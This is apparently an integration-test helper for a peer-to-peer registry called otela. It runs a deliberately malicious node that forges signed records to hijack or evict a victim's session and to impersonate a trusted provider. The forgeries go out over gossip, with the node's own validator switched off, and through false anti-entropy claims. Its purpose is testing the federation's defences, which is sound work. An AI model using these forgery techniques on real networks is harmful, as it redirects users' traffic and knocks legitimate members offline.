"""A misbehaving member: a real otela node with one added step that forges registry records.

It runs the daemon exactly as ``otela start`` does (same settings, same mesh, same
certificate when the federation has an authority), waits until its replica holds the
victim's session, then, every second for ``--rounds`` rounds, signs with its own key and
publishes records for the victim's session id:

- hijack: SERVING at a much higher version, with the forger's peer id, provider and URL
  (what the security review's attacker did to redirect the victim's traffic);
- left: LEFT at a much higher version (what removed the victim for good).

They go out both ways a member could send them: gossip (its own topic validator is
switched off so its pubsub lets them out) and anti-entropy, by claiming in a digest
exchange to hold a newer version of the victim's session and then sending the forgery
when asked for it. With ``--claim-provider NAME`` it instead publishes its own
session's record claiming to belong to provider NAME (to receive the requests of
users who trust NAME).

Run: ``python -m tests.integration.forger --victim SESSION start <otela
start flags>`` (``LocalFederation.start_node(launcher=...)`` does); prints ``forger: sent
N`` after each round.
"""

from __future__ import annotations

import argparse
import dataclasses
import logging
import sys
from typing import Any

import trio

from otela.config import resolve
from otela.daemon import Node
from otela.mesh.framing import read_frame, write_frame
from otela.registry.crdt import bucket_of
from otela.registry.records import Lifecycle, NodeRecord
from otela.registry.wire import decode, encode, sign_record
from otela.replication.replicator import AE_PROTOCOL, REGISTRY_TOPIC


def forgeries(node: Node, victim: NodeRecord) -> list[dict[str, Any]]:
    me = node.identity.peer_id.to_base58()
    base = dataclasses.replace(
        victim, peer_id=me, provider_id=node.provider_id, http_url=node.http_url,
        version=victim.version + 1000, updated_at=victim.updated_at + 1,
    )
    key = node.identity.key_pair.private_key
    return [sign_record(base, key, node.replica.certificate),
            sign_record(dataclasses.replace(base, state=Lifecycle.LEFT), key,
                        node.replica.certificate)]


async def push_by_anti_entropy(node: Node, peer: Any, session: str,
                               envelopes: list[dict[str, Any]]) -> None:
    """Claim a newer version of ``session`` in a digest exchange, then send the forgeries."""
    stream = await node.mesh.host.new_stream(peer, [AE_PROTOCOL])
    try:
        await write_frame(stream, encode({"kind": "ae-open", "root": b"", "revoked": []}))
        decode(await read_frame(stream))
        claim = {session: (int(Lifecycle.LEFT), 10**9, b"\xff" * 8)}
        await write_frame(stream, encode({"kind": "ae-digests", "revocations": [],
                                          "digests": {bucket_of(session): claim}}))
        decode(await read_frame(stream))
        await write_frame(stream, encode({"kind": "ae-entries", "entries": envelopes,
                                          "want": []}))
    finally:
        await stream.close()


async def forge(node: Node, session: str, rounds: int) -> None:
    node.mesh.pubsub.set_topic_validator(REGISTRY_TOPIC, lambda *_: True, False)
    while (victim := node.registry.get(session)) is None or not node.http_url:
        await trio.sleep(0.1)
    envelopes = forgeries(node, victim)
    for _ in range(rounds):
        sent = 0
        for envelope in envelopes:
            await node.replicator.publish(envelope)
            sent += 1
        for peer in node.replicator.connected_peers():
            try:
                await push_by_anti_entropy(node, peer, session, envelopes)
                sent += len(envelopes)
            except Exception as exc:  # a peer that hung up on us: try the others
                print(f"forger: anti-entropy with {peer} failed: {exc}", flush=True)
        print(f"forger: sent {sent}", flush=True)
        await trio.sleep(1.0)


async def claim_provider(node: Node, provider: str, rounds: int) -> None:
    """Publish our own session's record as if we were ``provider``'s node (an attacker
    that wants a trusted provider's traffic), signed with our own key and certificate."""
    node.mesh.pubsub.set_topic_validator(REGISTRY_TOPIC, lambda *_: True, False)
    while (own := node.replica.record) is None or own.state is not Lifecycle.SERVING:
        await trio.sleep(0.1)
    claim = dataclasses.replace(own, provider_id=provider, version=own.version + 1000,
                                updated_at=own.updated_at + 1)
    envelope = sign_record(claim, node.identity.key_pair.private_key,
                           node.replica.certificate)
    for _ in range(rounds):
        await node.replicator.publish(envelope)
        for peer in node.replicator.connected_peers():
            try:
                await push_by_anti_entropy(node, peer, own.session_id, [envelope])
            except Exception as exc:  # a peer that hung up on us: try the others
                print(f"forger: anti-entropy with {peer} failed: {exc}", flush=True)
        print("forger: sent claim", flush=True)
        await trio.sleep(1.0)


async def run(node: Node, session: str | None, provider: str | None, rounds: int) -> int:
    async with trio.open_nursery() as nursery:
        if session is not None:
            nursery.start_soon(forge, node, session, rounds)
        if provider is not None:
            nursery.start_soon(claim_provider, node, provider, rounds)
        code = await node.run()
        nursery.cancel_scope.cancel()
    return code


def main(argv: list[str]) -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--victim", help="session id to forge records for")
    parser.add_argument("--claim-provider", help="claim to be this provider's node")
    parser.add_argument("--rounds", type=int, default=5)
    parser.add_argument("start", nargs=argparse.REMAINDER, help="start, then otela start flags")
    args = parser.parse_args(argv)
    logging.basicConfig(level=logging.INFO, stream=sys.stderr,
                        format="%(asctime)s %(levelname)s %(name)s: %(message)s")
    flags = _start_flags([a for a in args.start if a not in ("--", "start")])
    node = Node(resolve(flags).config)
    return trio.run(run, node, args.victim, args.claim_provider, args.rounds)


def _start_flags(argv: list[str]) -> dict[str, Any]:
    """The few ``otela start`` flags the tests pass, as ``resolve`` takes them."""
    names = {"--home": "home", "--host": "listen_host", "--http-port": "http_port",
             "--p2p-port": "p2p_port", "--bootstrap": "bootstrap", "--authority": "authority",
             "--status-file": "status_file", "--provider-id": "provider_id",
             "--process": "process"}
    flags: dict[str, Any] = {}
    for flag, value in zip(argv[::2], argv[1::2], strict=True):
        attr = names[flag]
        flags[attr] = [*flags.get(attr, []), value] if attr == "bootstrap" else value
    return flags


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
